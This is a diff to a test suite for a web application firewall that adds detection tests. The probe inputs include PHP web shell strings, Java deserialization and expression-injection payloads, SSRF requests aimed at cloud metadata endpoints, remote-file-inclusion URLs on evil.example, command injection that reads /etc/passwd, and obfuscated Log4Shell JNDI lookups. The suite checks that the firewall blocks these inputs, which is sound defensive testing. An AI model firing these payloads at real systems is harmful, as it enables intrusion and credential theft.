@@ -26,7 +26,8 @@ after(async () => {
 interface Probe {
   path: string;
   method?: string;
-  headers?: Record<string, string>;
+  /** An array sends the header once per element. */
+  headers?: Record<string, string | string[]>;
   body?: string;
 }
 
@@ -150,9 +151,73 @@ test("pathological inputs are answered without stalling Envoy (linear-time match
   assert.ok(Date.now() - started < 1000, "Envoy kept serving");
 });
 
+test("the newer families are detected where attackers put them", async () => {
+  const q = encodeURIComponent;
+  // php: query, form, JSON, cookie, path.
+  await expectDetected({ path: "/index.php?page=" + q("php://filter/convert.base64-encode/resource=config.php") }, "php", "query:page");
+  await expectDetected({ path: "/comment", headers: form, body: "text=" + q("<?php system($_GET['c']); ?>") }, "php", "body.form:text");
+  await expectDetected({ path: "/api/import", headers: json, body: JSON.stringify({ data: 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}' }) }, "php", "body.json:$.data");
+  await expectDetected({ path: "/", headers: { cookie: "cart=" + q("O:4:\"Cart\":1:{s:1:\"a\";i:1;}") } }, "php", "cookie:cart");
+  await expectDetected({ path: "/render/" + q("<?php phpinfo(); ?>") + "/x" }, "php", "path");
+  // java: cookie (serialized object), header, form name (Spring4Shell), query, JSON.
+  await expectDetected({ path: "/", headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==" } }, "java", "cookie:rememberMe");
+  await expectDetected({ path: "/", headers: { "x-forwarded-host": "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } }, "java", "header:x-forwarded-host");
+  await expectDetected({ path: "/register", headers: form, body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&name=a" }, "java", "body.form:class.module.classLoader.resources.context.parent.pipeline.first.pattern");
+  await expectDetected({ path: "/greet?name=" + q("#{T(java.lang.Runtime).getRuntime().exec('id')}") }, "java", "query:name");
+  await expectDetected({ path: "/api/parse", headers: json, body: JSON.stringify({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "x" }) }, "java", "body.json:$.@type");
+  // ssrf: query, JSON, form, header, path.
+  await expectDetected({ path: "/fetch?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/") }, "ssrf", "query:url");
+  await expectDetected({ path: "/api/webhooks", headers: json, body: JSON.stringify({ target: "http://0x7f000001:6379/" }) }, "ssrf", "body.json:$.target");
+  await expectDetected({ path: "/preview", headers: form, body: "link=" + q("http://[::ffff:127.0.0.1]/admin") }, "ssrf", "body.form:link");
+  await expectDetected({ path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } }, "ssrf", "header:x-forwarded-host");
+  await expectDetected({ path: "/proxy/" + q("http://2130706433/") }, "ssrf", "path");
+  // rfi: query, form, cookie.
+  await expectDetected({ path: "/index.php?file=" + q("http://evil.example/shell.txt?") }, "rfi", "query:file");
+  await expectDetected({ path: "/load", headers: form, body: "tpl=" + q("ftp://evil.example/pub/x.php") }, "rfi", "body.form:tpl");
+  await expectDetected({ path: "/", headers: { cookie: "skin=" + q("\\\\attacker\\share\\shell.php") } }, "rfi", "cookie:skin");
+  // protopollution: query name, JSON key, form name, path segment.
+  await expectDetected({ path: "/api/settings?__proto__[isAdmin]=true" }, "protopollution", "query-name");
+  await expectDetected({ path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' }, "protopollution", "body.json:$.user.__proto__");
+  await expectDetected({ path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" }, "protopollution", "body.form:constructor[prototype][admin]");
+  await expectDetected({ path: "/api/__proto__/x" }, "protopollution", "path");
+  // sessionfixation: query name, form value.
+  await expectDetected({ path: "/login?PHPSESSID=attacker0123" }, "sessionfixation", "query-name");
+  await expectDetected({ path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") }, "sessionfixation", "body.form:msg");
+  // protocol: a request smuggled in a form value; a header repeated past the bound.
+  await expectDetected({ path: "/submit", headers: form, body: "data=" + q("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n") }, "protocol", "body.form:data");
+  await expectDetected({ path: "/", headers: { "x-dup": Array.from({ length: 20 }, (_, i) => String(i)) } }, "protocol", "header:x-dup");
+  // Obfuscated command execution and nested JNDI lookups in a cookie and a JSON field.
+  await expectDetected({ path: "/ping?host=" + q("127.0.0.1;c'a't${IFS}/etc/passwd") }, "cmdi", "query:host");
+  await expectDetected({ path: "/ping", headers: form, body: "host=" + q("| echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh") }, "cmdi", "body.form:host");
+  await expectDetected({ path: "/", headers: { cookie: "lang=" + q("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}") } }, "jndi", "cookie:lang");
+  await expectDetected({ path: "/api/log", headers: json, body: JSON.stringify({ msg: "${${lower:j}ndi:${lower:l}dap://x/a}" }) }, "jndi", "body.json:$.msg");
+});
+
+test("benign shapes that look like attacks pass", async () => {
+  await expectClean({ path: "/collect?us_privacy=1---&gdpr=0&ccpa=1YN-" });
+  await expectClean({ path: "/?icid=mmb%7Csc%7Cc1%7C080122%7Cspring_sale%7C5&utm_source=newsletter&utm_campaign=spring%20%7C%20sale" });
+  await expectClean({ path: "/track?dt=" + encodeURIComponent("flights & more | Skyline Travel") + "&dl=" + encodeURIComponent("https://www.example.com/deals") });
+  await expectClean({ path: "/landing?redirect=" + encodeURIComponent("https://app.example.com/account?tab=orders&&ref=nav") + "&gclid=Cj0KCQjw_abc-123" });
+  await expectClean({ path: "/api/v1/snippets", headers: json, body: JSON.stringify({ snippet: "class Foo extends Bar { constructor() { super(); } }", title: "I'd like to select a union rep from the table" }) });
+  await expectClean({ path: "/profile", headers: form, body: "avatar=" + encodeURIComponent("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE/AAAA") + "&email=o%27neil%40example.com" });
+  await expectClean({ path: "/search?q=constructor+prototype+javascript&session=2" });
+  await expectClean({ path: "/api/v1/orders", headers: json, body: JSON.stringify({ sessionId: "abc", callback: "https://shop.example.com/hooks/order", note: "<p>Ring <b>twice</b></p>" }) });
+});
+
+test("new detectors stay linear on pathological input", async () => {
+  for (const pattern of ["http://", "__proto__", "class.", "\\\\a\\", "<?", "%{", "constructor.", "0x7f.", "\r\nGET / HTTP/1.1\r\n", "${IFS:0:"]) {
+    const value = pattern.repeat(Math.ceil((128 * 1024) / pattern.length)).slice(0, 128 * 1024);
+    const started = Date.now();
+    const r = await stack.sendHttp("/pathological", { method: "POST", headers: json, body: JSON.stringify({ v: value }) });
+    const took = Date.now() - started;
+    assert.ok(r.status === 200 || r.status === 403, `status ${r.status}`);
+    assert.ok(took < 2000, `128 KiB of ${JSON.stringify(pattern)} took ${took} ms`);
+  }
+});
+
 test("blocked attacks are counted per category", async () => {
   const stats = await stack.stats();
-  for (const category of ["sqli", "xss", "traversal", "cmdi", "jndi"]) {
+  for (const category of ["sqli", "xss", "traversal", "cmdi", "jndi", "php", "java", "ssrf", "rfi", "protopollution", "sessionfixation", "protocol"]) {
     assert.ok((stats.get(`gatewarden_blocked_${category}_total`) ?? 0) >= 1, `gatewarden_blocked_${category}_total`);
   }
 });
